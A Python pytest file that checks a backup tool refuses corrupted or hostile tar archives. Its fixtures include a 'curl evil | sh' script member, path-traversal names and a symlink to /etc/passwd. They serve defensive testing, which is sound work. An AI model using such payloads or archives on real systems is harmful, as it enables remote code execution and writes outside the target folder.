"""A damaged or hostile archive is refused with a clear message, and nothing is written."""

from __future__ import annotations

import hashlib
import io
import json
import tarfile
from collections.abc import Callable
from pathlib import Path

import pytest
from backup_repos import AppRepo

from aikinklab_ops.backup import create_backup, restore, verify_backup
from aikinklab_ops.errors import InputError

Members = list[tuple[tarfile.TarInfo, bytes]]


def _read(archive: Path) -> Members:
    out = []
    with tarfile.open(archive, "r:gz") as tar:
        for m in tar.getmembers():
            f = tar.extractfile(m)
            out.append((m, f.read() if f else b""))
    return out


def _write(members: Members, dest: Path) -> Path:
    with tarfile.open(dest, "w:gz", format=tarfile.PAX_FORMAT) as tar:
        for info, data in members:
            info.size = len(data) if info.isreg() else 0
            tar.addfile(info, io.BytesIO(data) if info.isreg() else None)
    return dest


def _rewrite(good: Path, tmp_path: Path, change: Callable[[Members], None]) -> Path:
    members = _read(good)
    change(members)
    return _write(members, tmp_path / "evil" / good.name)


def _manifest(members: Members) -> dict:
    return json.loads(members[0][1])


def _set_manifest(members: Members, manifest: dict) -> None:
    members[0] = (members[0][0], json.dumps(manifest).encode())


def _assert_refused(archive: Path, into: Path, match: str) -> None:
    with pytest.raises(InputError, match=match) as err:
        restore(archive, into=into)
    assert "nothing restored" in err.value.message or "truncated" in err.value.message
    assert not into.exists() or list(into.iterdir()) == []


def _flip_config_byte(members: Members) -> None:
    for i, (info, data) in enumerate(members):
        if info.name == "config/vercel.json":
            members[i] = (info, data.replace(b"true", b"fals"))


def test_changed_byte_in_a_member(good: Path, tmp_path: Path) -> None:
    (tmp_path / "evil").mkdir()
    bad = _rewrite(good, tmp_path, _flip_config_byte)
    report = verify_backup(bad)
    assert not report.ok
    assert report.check("checksums").status.value == "fail"
    assert "config/vercel.json" in report.check("checksums").summary
    _assert_refused(bad, tmp_path / "into", "checksum or size differs")


def test_edited_manifest(good: Path, tmp_path: Path) -> None:
    (tmp_path / "evil").mkdir()

    def edit(members: Members) -> None:
        m = _manifest(members)
        row = next(r for r in m["files"] if r["path"] == "config/package.json")
        row["sha256"] = hashlib.sha256(b"something else").hexdigest()
        _set_manifest(members, m)

    bad = _rewrite(good, tmp_path, edit)
    assert verify_backup(bad).check("checksums").status.value == "fail"
    _assert_refused(bad, tmp_path / "into", "config/package.json")


def test_member_missing_from_archive_or_manifest(good: Path, tmp_path: Path) -> None:
    (tmp_path / "evil").mkdir()

    def drop_member(members: Members) -> None:
        del members[-1]

    bad = _rewrite(good, tmp_path, drop_member)
    report = verify_backup(bad)
    assert report.check("complete").status.value == "fail" and "missing" in report.check("complete").summary
    _assert_refused(bad, tmp_path / "into", "missing from the archive")

    def extra_member(members: Members) -> None:
        members.append((tarfile.TarInfo("config/extra.sh"), b"curl evil | sh\n"))

    bad2 = _rewrite(good, tmp_path, extra_member)
    assert verify_backup(bad2).check("complete").status.value == "fail"
    _assert_refused(bad2, tmp_path / "into2", "not listed in the manifest")


def test_manifest_not_first_is_not_a_backup(good: Path, tmp_path: Path) -> None:
    (tmp_path / "evil").mkdir()
    bad = _rewrite(good, tmp_path, lambda ms: ms.append(ms.pop(0)))
    assert verify_backup(bad).check("readable").status.value == "fail"
    _assert_refused(bad, tmp_path / "into", "manifest.json is not the first member")


def test_truncated_archive(good: Path, tmp_path: Path) -> None:
    bad = tmp_path / good.name
    data = good.read_bytes()
    bad.write_bytes(data[: len(data) // 2])
    report = verify_backup(bad)
    assert not report.ok
    assert "truncated or corrupt" in report.check("readable").summary
    _assert_refused(bad, tmp_path / "into", "truncated or corrupt")


def test_archive_checksum_beside_it_must_match(good: Path, tmp_path: Path) -> None:
    side = good.with_name(good.name + ".sha256")
    side.write_text("0" * 64 + "  " + good.name + "\n")
    assert verify_backup(good).check("archive-checksum").status.value == "fail"
    with pytest.raises(InputError, match="does not match"):
        restore(good, into=tmp_path / "into")
    assert not (tmp_path / "into").exists()


def _hostile(good: Path, tmp_path: Path, info: tarfile.TarInfo, data: bytes = b"") -> Path:
    """A member listed in the manifest (checksum right) but unsafe to extract."""
    (tmp_path / "evil").mkdir(exist_ok=True)

    def add(members: Members) -> None:
        m = _manifest(members)
        m["files"].append(
            {"path": info.name, "kind": "config", "size": len(data), "sha256": hashlib.sha256(data).hexdigest()}
        )
        _set_manifest(members, m)
        members.append((info, data))

    return _rewrite(good, tmp_path, add)


@pytest.mark.parametrize(
    ("name", "why"),
    [("config/../../escaped.txt", "climbs out"), ("/tmp/aikinklab-absolute.txt", "absolute path")],
)
def test_path_traversal_is_refused(good: Path, tmp_path: Path, name: str, why: str) -> None:
    bad = _hostile(good, tmp_path, tarfile.TarInfo(name), b"pwned\n")
    into = tmp_path / "deep" / "into"
    _assert_refused(bad, into, why)
    assert not (tmp_path / "escaped.txt").exists() and not (tmp_path / "deep" / "escaped.txt").exists()
    assert not Path("/tmp/aikinklab-absolute.txt").exists()
    assert verify_backup(bad).check("checksums").status.value == "fail"


def test_outward_symlink_is_refused(good: Path, tmp_path: Path) -> None:
    link = tarfile.TarInfo("config/passwd")
    link.type = tarfile.SYMTYPE
    link.linkname = "../../../../etc/passwd"
    bad = _hostile(good, tmp_path, link)
    _assert_refused(bad, tmp_path / "into", "symbolic link pointing outside")


def test_device_file_is_refused(good: Path, tmp_path: Path) -> None:
    dev = tarfile.TarInfo("config/null")
    dev.type = tarfile.CHRTYPE
    dev.devmajor, dev.devminor = 1, 3
    bad = _hostile(good, tmp_path, dev)
    _assert_refused(bad, tmp_path / "into", "device file")


def test_existing_files_are_not_overwritten_without_force(good: Path, tmp_path: Path) -> None:
    into = tmp_path / "into"
    (into / "config").mkdir(parents=True)
    (into / "config" / "vercel.json").write_text("mine\n")
    with pytest.raises(InputError, match="already there") as err:
        restore(good, into=into)
    assert "--force" in (err.value.hint or "")
    assert (into / "config" / "vercel.json").read_text() == "mine\n"
    assert sorted(p.name for p in into.iterdir()) == ["config"]

    restore(good, into=into, force=True)
    assert (into / "config" / "vercel.json").read_text() == '{"cleanUrls": true}\n'
    assert (into / "repository" / ".git").is_dir()


def test_code_backup_without_its_bundle_fails_verification(app_repo: AppRepo, tmp_path: Path) -> None:
    archive = create_backup("code", repo=app_repo.path, output_dir=tmp_path / "out").archive
    (tmp_path / "evil").mkdir()

    def drop_bundle(members: Members) -> None:
        m = _manifest(members)
        m["files"] = []
        _set_manifest(members, m)
        del members[1:]

    bad = _rewrite(archive, tmp_path, drop_bundle)
    report = verify_backup(bad)
    assert (
        report.check("bundle").status.value == "fail"
        and "without its repository bundle" in report.check("bundle").summary
    )


def test_bundle_that_verifies_but_cannot_be_cloned_fails(app_repo: AppRepo, tmp_path: Path) -> None:
    """The trap: a bundle made in a shallow clone passes `git bundle verify` but does not clone."""
    import subprocess

    from aikinklab_ops.backup import archive as ar

    shallow = tmp_path / "shallow"
    subprocess.run(["git", "clone", "-q", "--depth", "1", f"file://{app_repo.path}", str(shallow)], check=True)
    bundle = tmp_path / "shallow.bundle"
    subprocess.run(["git", "bundle", "create", "-q", str(bundle), "--all"], cwd=shallow, check=True)
    probe = tmp_path / "probe"
    subprocess.run(["git", "init", "-q", str(probe)], check=True)
    assert subprocess.run(["git", "bundle", "verify", "-q", str(bundle)], cwd=probe).returncode == 0

    entry = ar.entry_from_file(ar.BUNDLE_MEMBER, "code", bundle)
    manifest = {"format": 1, "type": "code", "repository": {"refs": {}}, "files": [entry.manifest_row()]}
    archive = tmp_path / "aikinklab_backup_code_20260101-000000_abcdef1.tar.gz"
    with open(archive, "wb") as fh:
        ar.write_tar_gz(fh, json.dumps(manifest).encode(), [entry])

    report = verify_backup(archive)
    assert report.check("checksums").status.value == "pass"  # every byte is as recorded…
    bundle_check = report.check("bundle")
    assert bundle_check.status.value == "fail" and "does not clone" in bundle_check.summary  # …yet it is no backup
